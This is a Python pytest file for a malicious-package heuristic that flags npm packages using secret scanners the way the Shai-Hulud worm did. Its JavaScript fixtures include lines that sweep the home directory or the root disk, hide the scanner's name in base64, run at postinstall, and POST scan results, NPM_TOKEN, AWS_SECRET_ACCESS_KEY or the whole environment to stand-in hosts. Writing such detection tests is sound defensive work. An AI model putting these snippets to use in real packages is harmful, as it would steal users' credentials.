"""GH-CRED-SCANNER: what makes a secret scanner in a package verdict-changing, and what does not.

A command that runs the trufflehog or gitleaks the user installed, on the user's repository, on
request (``dotenvx ext scan``, the ``benign/secret-scan-command`` fixture) is not a finding. Each
part of the attack's shape alone makes it high: run at install time, the scanner downloaded, its
name hidden, the home folder or the disk swept, the results sent out (Shai-Hulud did all five).
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from gouvernante.heuristic import scan_package_dir

# Runs the installed scanner on the working tree when called: no hit on its own.
RUNNER = """\
const { execFileSync } = require("child_process");
function scan(dir) {
  return execFileSync("trufflehog", ["git", "file://" + dir, "--json"]).toString();
}
module.exports = { scan };
"""

# One part of the attack's shape each, added to RUNNER.
ATTACK_PARTS: dict[str, str] = {
    "download": (
        'const https = require("https");\n'
        "const URL = `https://github.example.invalid/trufflesecurity/trufflehog/releases/"
        "download/v3.0.0/trufflehog_3.0.0_linux_amd64.tar.gz`;\n"
        "https.get(URL, (res) => res.resume());\n"
    ),
    "archive-name": (
        "const asset = `trufflehog_${v}_${process.platform}_amd64.tar.gz`;\n"
        "fetch(base + asset).then((r) => r.arrayBuffer());\n"
    ),
    "home-sweep": 'execFileSync("trufflehog", ["filesystem", require("os").homedir()]);\n',
    "root-sweep": 'execFileSync("gitleaks", ["dir", "/", "--report-format", "json"]);\n',
    "env-home": "const target = process.env.HOME; // scanned next\n",
    "collection-host": (
        'fetch("https://webhook.site.example.invalid/x", { method: "POST", body: out });\n'
    ),
    "secrets-of-two-providers": (
        "fetch(api, { method: 'POST', body: JSON.stringify([out, process.env.NPM_TOKEN, "
        "process.env.AWS_SECRET_ACCESS_KEY]) });\n"
    ),
    "environment-dump": "fetch(api, { method: 'POST', body: JSON.stringify(process.env) });\n",
    "hidden-name": (
        "const bin = Buffer.from("
        + json.dumps(base64.b64encode(b"gitleaks").decode())
        + ', "base64").toString();\n'
    ),
}


def _package(root: Path, code: str, scripts: dict[str, str] | None = None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    manifest: dict[str, object] = {"name": "fixture-scanner-shape", "version": "1.0.0"}
    if scripts:
        manifest["scripts"] = scripts
    (root / "package.json").write_text(json.dumps(manifest))
    (root / "scan.js").write_text(code)
    return root


def _scanner_hits(root: Path) -> list[str]:
    return [
        h.confidence.value for h in scan_package_dir(str(root)) if h.pattern_id == "GH-CRED-SCANNER"
    ]


def test_running_the_installed_scanner_on_request_is_not_reported(tmp_path: Path) -> None:
    assert _scanner_hits(_package(tmp_path / "p", RUNNER)) == []


@pytest.mark.parametrize("part", sorted(ATTACK_PARTS))
def test_each_part_of_the_attack_shape_reads_high(tmp_path: Path, part: str) -> None:
    assert _scanner_hits(_package(tmp_path / "p", RUNNER + ATTACK_PARTS[part])) == ["high"]


def test_the_same_runner_started_at_install_time_reads_high(tmp_path: Path) -> None:
    root = _package(tmp_path / "p", RUNNER, {"postinstall": "node scan.js"})
    assert _scanner_hits(root) == ["high"]


def test_network_code_beside_the_runner_is_a_review_item(tmp_path: Path) -> None:
    """Results could leave through it: worth a look, not a verdict (an update check, say)."""
    code = RUNNER + 'fetch("https://registry.example.invalid/latest").then((r) => r.json());\n'
    assert _scanner_hits(_package(tmp_path / "p", code)) == ["medium"]


@pytest.mark.parametrize(
    "hint",
    [
        'console.error("install it: https://github.com/gitleaks/gitleaks#installing");\n',
        'console.error("brew install trufflehog");\n',
        'const cfg = ".gitleaks.toml"; // read from the repository\n',
    ],
)
def test_install_hints_and_repository_config_stay_silent(tmp_path: Path, hint: str) -> None:
    assert _scanner_hits(_package(tmp_path / "p", RUNNER + hint)) == []


def test_a_project_url_is_no_download_even_beside_network_code(tmp_path: Path) -> None:
    code = (
        RUNNER
        + 'console.error("see https://github.com/trufflesecurity/trufflehog");\n'
        + 'fetch("https://registry.example.invalid/latest");\n'
    )
    assert _scanner_hits(_package(tmp_path / "p", code)) == ["medium"]
